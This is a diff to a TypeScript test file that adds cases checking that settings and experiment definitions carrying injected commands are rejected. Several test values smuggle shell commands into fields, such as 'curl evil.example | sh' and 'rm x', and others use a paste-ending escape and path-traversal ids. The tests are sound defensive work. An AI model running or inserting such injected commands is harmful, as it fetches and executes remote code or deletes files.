@@ -51,6 +51,7 @@ describe("what cannot be shown is told, with what to do", () => {
   const foreign: [name: string, changed: object, message: RegExp][] = [
     ["runs that are a command", settings({ runs: "1; curl evil.example | sh #" }), /its settings/],
     ["runs that are no whole number", settings({ runs: 1.5 }), /its settings/],
+    ["a cap that is a command", settings({ maxRuns: "1; curl evil.example | sh #" }), /its settings/],
     ["a seed that is a list", settings({ seed: ["1"] }), /its settings/],
     ["an empty seed", settings({ seed: "" }), /its settings/],
     ["a seed with an escape that ends a paste", settings({ seed: "\u001b[201~\nrm x\n" }), /its settings/],
@@ -59,6 +60,11 @@ describe("what cannot be shown is told, with what to do", () => {
     ["an experiment that is an option", withExperiment({ id: "--all", conditions: [] }), /“--all”/],
     ["an experiment that is a command", withExperiment({ id: "a;b", conditions: [] }), /“a;b”/],
     ["a condition of another kind", withExperiment({ conditions: [{ id: "--out=/", config: {} }] }), /“theorems”/],
+    [
+      "a condition with runs that are a command",
+      withExperiment({ conditions: [{ id: "theorems/a", config: {}, runs: "1; rm x" }] }),
+      /“theorems”/,
+    ],
     ["a condition of two lines", withExperiment({ conditions: [{ id: "theorems/a\nb", config: {} }] }), /“theorems”/],
     ["a figure elsewhere", withExperiment({ figures: [{ ...figure, id: "../../index" }] }), /“theorems”/],
     ["a hidden figure", withExperiment({ figures: [{ ...figure, id: ".own" }] }), /“theorems”/],
